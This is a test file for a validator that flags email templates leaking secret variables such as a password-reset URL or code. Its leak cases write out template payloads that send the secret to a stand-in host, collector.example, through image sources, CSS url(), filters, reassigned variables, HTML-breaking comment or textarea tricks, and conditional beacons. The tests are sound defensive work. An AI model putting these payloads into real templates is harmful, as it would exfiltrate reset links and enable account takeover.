import { describe, expect, test } from 'vitest'
import { secretProblems } from './secret-uses.ts'

const names = ['customer_name', 'reset_url', 'reset_code', 'valid_minutes']
const problems = (change: Partial<{ subject: string; html: string; text: string }>) =>
  secretProblems(
    { subject: 'Choose a new password', html: '<p>Hello</p>', text: 'Hello', ...change },
    names,
  )

describe('a secret may', () => {
  test.each([
    '<a href="{{ reset_url }}">Choose a new one</a>',
    '<p>Or copy {{ reset_url }} into your browser</p>',
    '<table><tr><td><a href="{{reset_url}}" style="color:inherit">{{ reset_url }}</a></td></tr></table>',
    '{% if reset_code != blank %}<p>Your code: <strong>{{ reset_code }}</strong></p>{% endif %}',
    '<p>Within {{ valid_minutes }} minutes{% if customer_name == "Thandi" %}!{% endif %} {{ reset_url }}</p>',
  ])('%s', (html) => {
    expect(problems({ html })).toEqual([])
  })

  test('stand by itself in plain text', () => {
    expect(
      problems({
        text: 'Open {{ reset_url }}\n{% if reset_code %}or enter {{ reset_code }}{% endif %}',
      }),
    ).toEqual([])
  })
})

describe('a secret is not leaked by', () => {
  test.each([
    '<img src="https://collector.example/?u={{ reset_url }}">',
    '<img src="https://collector.example/ {{ reset_url }}">',
    '<a href="https://collector.example/?u={{ reset_url }}">Open</a>',
    '<p>https://collector.example/?u={{ reset_url }}</p>',
    '<p>https://collector.example/?u={% if customer_name %}{{ reset_url }}{% endif %}</p>',
    '<p>https://collector.example/?u= {{- reset_url }}</p>',
    '<p>https://collector.example/?u= {% if customer_name -%} {{ reset_url }}{% endif %}</p>',
    '<style>p { background: url("https://collector.example/? {{ reset_url }}") }</style>',
    '<p style="background:url(https://collector.example/?{{ reset_url }})">x</p>',
    '<!-- {{ reset_url }} -->',
    '{{ reset_url | url_encode }}',
    "{{ 'https://collector.example/' | append: reset_url }}",
    '{% assign x = reset_url %}<img src="https://collector.example/{{ x }}">',
    '{% capture x %}{{ reset_url }}{% endcapture %}<img src="https://collector.example/{{ x }}">',
    '<img alt={% if customer_name %}"{% endif %} src="https://collector.example/> {{ reset_url }}">',
    '{% if customer_name == "" %}<!--{% endif %}<img src="https://collector.example/ {{ reset_url }}">',
    '{% if customer_name == "" %}<textarea>{% endif %}<img src="https://collector.example/ {{ reset_url }}">',
    "{{ '<img src=\"https://collector.example/ ' | raw }}{{ reset_url }}",
    '{% if reset_code contains "A" %}<img src="https://collector.example/a">{% endif %}',
    '{% if reset_code > "A" %}<img src="https://collector.example/a">{% endif %}',
  ])('%s', (html) => {
    expect(problems({ html }).map(({ part }) => part)).toEqual(['html'])
  })

  test('the subject, which every list of emails shows', () => {
    expect(problems({ subject: 'Your code {{ reset_code }}' }).map(({ part }) => part)).toEqual([
      'subject',
    ])
  })

  test('an address in plain text', () => {
    expect(
      problems({ text: 'https://collector.example/?u={{ reset_url }}' }).map(({ part }) => part),
    ).toEqual(['text'])
  })
})

test('says which one and where; other variables stand anywhere', () => {
  expect(problems({ html: '<p>Hello</p>\n<img src="{{ reset_url }}">' })).toEqual([
    {
      part: 'html',
      line: 2,
      message:
        "'reset_url' is for the recipient only: write {{ reset_url }} by itself in the text or as the whole address of a link.",
    },
  ])
  expect(problems({ html: '<img src="https://collector.example/{{ customer_name }}">' })).toEqual(
    [],
  )
})
